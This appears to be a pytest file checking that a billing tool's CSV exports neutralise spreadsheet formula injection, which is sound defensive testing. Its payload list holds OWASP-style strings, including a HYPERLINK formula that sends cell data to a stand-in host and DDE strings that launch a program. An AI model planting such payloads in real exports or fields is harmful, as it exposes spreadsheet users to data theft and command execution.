"""CSV/formula injection: names from inside a customer's Anthropic org reach a finance user's spreadsheet as text."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from pump_anthropic.domain.allocation import KeyShare
from pump_anthropic.domain.export import (
    ConnectionItems,
    ConnectionKeyLines,
    allocated_focus_csv_lines,
    focus_csv_lines,
    safe_text,
)
from pump_anthropic.domain.normalize import CostItem
from pump_anthropic.domain.records import StoredRollup
from pump_anthropic.domain.rollups import KEY_LINE_DIMENSIONS, build_key_rollups
from pump_local import cli
from tests.support.builders import cost_item

# OWASP's CSV-injection payloads, and the shapes around them that spreadsheets also evaluate.
PAYLOADS = [
    '=HYPERLINK("https://evil.example/?d="&A2,"Open")',
    "=1+2",
    "+1+2",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    '=1+2";=1+2',
    "-cmd|' /C calc'!A0",
    "@cmd",
    " =1+2",
    "  @SUM(1)",
    "\n=1+2",
    "＝1+2",
    "＋cmd",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def item(description: str) -> CostItem:
    # The FOCUS ChargeDescription is built from the model id (Anthropic's text), so the payload rides there too.
    return cost_item(description=description, model=description, workspace_id="wrkspc_x")


def cells(lines) -> list[list[str]]:
    return list(csv.reader(io.StringIO("".join(lines))))


def is_number(text: str) -> bool:
    try:
        Decimal(text)
    except ArithmeticError:
        return False
    return True


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows[1:]:
        for cell in row:
            assert not cell.lstrip(" ").startswith(TRIGGERS) or is_number(cell), cell


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_focus_export_neutralises_every_free_text_column(payload):
    source = ConnectionItems(payload, payload, [item(payload)])
    rows = cells(focus_csv_lines([source], {"wrkspc_x": payload}))
    assert_no_formula(rows)
    header, row = rows[0], rows[1]
    named = {column: row[header.index(column)] for column in ("BillingAccountName", "SubAccountName", "x_ModelId")}
    assert named == dict.fromkeys(named, "'" + payload)  # still readable: the payload behind an apostrophe
    assert row[header.index("ChargeDescription")] == "'" + payload + " Usage - Output Tokens"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_allocated_export_neutralises_key_names_too(payload):
    share = KeyShare(item(payload), "apikey_1", Decimal("1.25"), 1000, "proportional")
    rollups = [StoredRollup(r.date, "conn", KEY_LINE_DIMENSIONS, r.lines) for r in build_key_rollups([share])]
    source = ConnectionKeyLines(payload, payload, rollups)
    rows = cells(allocated_focus_csv_lines([source], {"wrkspc_x": payload}, lambda key: (payload, "proportional")))
    assert_no_formula(rows)
    header, row = rows[0], rows[1]
    assert row[header.index("x_ApiKeyName")] == "'" + payload


def test_numbers_are_never_touched():
    assert safe_text("-12.5") == "-12.5" and safe_text("+3") == "+3" and safe_text("1E+5") == "1E+5"
    assert safe_text("Research") == "Research" and safe_text("-") == "'-"


def test_report_csv_neutralises_names(capsys):
    payload = PAYLOADS[0]
    report = {
        "group_by": ["workspace_id"],
        "rows": [{"workspace_id": payload, "workspace_name": payload, "cost_usd": "-1.5", "tokens": 3}],
    }
    cli._print_csv(report)
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert rows[1][:3] == ["'" + payload, "'" + payload, "-1.5"]
